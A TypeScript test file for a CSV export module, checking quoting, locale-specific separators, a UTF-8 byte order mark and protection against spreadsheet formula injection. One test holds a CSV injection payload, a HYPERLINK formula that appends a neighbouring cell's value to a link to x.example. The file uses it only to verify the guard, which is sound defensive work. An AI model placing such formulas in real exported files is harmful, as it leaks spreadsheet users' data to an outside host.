import fc from 'fast-check';
import { parse } from 'papaparse';
import { describe, expect, it } from 'vitest';
import { languages } from '../../src/i18n/languages';
import { csvFile, listSeparator, toCsv, type ExportColumn } from '../../src/domain/csv';

interface Row {
  name: string;
  note: string | null;
  score: number | null;
}

const columns: ExportColumn<Row>[] = [
  { header: 'Name', value: (row) => row.name },
  { header: 'Note', value: (row) => row.note },
  { header: 'Score', value: (row) => row.score },
];

describe('toCsv', () => {
  it('writes a header and one CRLF-ended line per row', () => {
    expect(toCsv([{ name: 'Ana Garcia', note: 'ok', score: 91 }], columns)).toBe('Name,Note,Score\r\nAna Garcia,ok,91');
  });

  it('quotes cells holding commas, quotes or line breaks and doubles the quotes', () => {
    const csv = toCsv([{ name: "O'Brien, Sean", note: 'said "done"\nthen left', score: null }], columns);
    expect(csv).toBe('Name,Note,Score\r\n"O\'Brien, Sean","said ""done""\nthen left",');
  });

  it('keeps spreadsheet formulas from running', () => {
    expect(toCsv([{ name: '=HYPERLINK("x")', note: '@SUM(A1)', score: 5 }], columns)).toBe('Name,Note,Score\r\n"\'=HYPERLINK(""x"")","\'@SUM(A1)",5');
  });

  it('guards a formula followed by a line break, and one behind leading whitespace', () => {
    const payload = '=HYPERLINK("http://x.example/?"&B2,"Open")\nmore text';
    expect(toCsv([{ name: payload, note: '  +1+1', score: -5 }], columns)).toBe(
      'Name,Note,Score\r\n"\'=HYPERLINK(""http://x.example/?""&B2,""Open"")\nmore text","\'  +1+1",-5',
    );
  });

  it('guards every text cell that starts, after whitespace, with = + - @ tab or CR, whatever follows, and keeps its text', () => {
    const trigger = fc.tuple(fc.stringMatching(/^[ \n]{0,3}$/), fc.constantFrom('=', '+', '-', '@', '\t', '\r'), fc.string({ maxLength: 30 }));
    fc.assert(
      fc.property(trigger, ([space, first, rest]) => {
        const cell = `${space}${first}${rest}`;
        const [, row] = parse<string[]>(toCsv([{ name: cell, note: null, score: null }], columns), { newline: '\r\n' }).data;
        expect(row![0]).toBe(`'${cell}`);
      }),
      { numRuns: 1000 },
    );
  });

  it('leaves other text cells as they were', () => {
    const plain = fc.string({ maxLength: 30 }).filter((text) => !/^\s*[=+\-@\t\r]/.test(text));
    fc.assert(
      fc.property(plain, (cell) => {
        const [, row] = parse<string[]>(toCsv([{ name: cell, note: null, score: null }], columns), { newline: '\r\n' }).data;
        expect(row![0]).toBe(cell);
      }),
      { numRuns: 1000 },
    );
  });

  it('writes only the header for no rows', () => {
    expect(toCsv([], columns)).toBe('Name,Note,Score\r\n');
  });
});

describe('listSeparator', () => {
  it("is the separator Excel expects in each of the app's languages: a semicolon where a comma is the decimal mark", () => {
    expect(Object.fromEntries(Object.entries(languages).map(([code, { tag }]) => [code, listSeparator(tag)]))).toEqual({
      en: ',',
      sp: ';',
      gr: ';',
      fr: ';',
      it: ';',
      ru: ';',
      jp: ',',
      ch: ',',
      ar: ',',
    });
  });

  it('separates the cells by it, quoting a cell that holds it, and reads back the same (generated rows)', () => {
    fc.assert(
      fc.property(
        fc.array(fc.record({ name: fc.string(), note: fc.option(fc.string(), { nil: null }), score: fc.option(fc.integer(), { nil: null }) })),
        (rows) => {
          const text = toCsv(rows, columns, { delimiter: ';' });
          const read = parse<string[]>(text, { delimiter: ';', skipEmptyLines: true }).data.slice(1);
          expect(read.length).toBe(rows.length);
          for (const [index, row] of rows.entries()) expect(read[index]![0]!.replace(/^'/, '')).toBe(row.name.replace(/^'/, ''));
        },
      ),
    );
  });
});

describe('csvFile', () => {
  it('is UTF-8 behind a byte order mark, for Excel on Windows, and reads back as the text', async () => {
    const file = csvFile(['Name\r\n', 'Zoë,مريم\r\n']);
    expect(file.type).toBe('text/csv;charset=utf-8');
    expect([...new Uint8Array(await file.slice(0, 3).arrayBuffer())]).toEqual([0xef, 0xbb, 0xbf]);
    expect(await file.text()).toBe('Name\r\nZoë,مريم\r\n');
  });
});
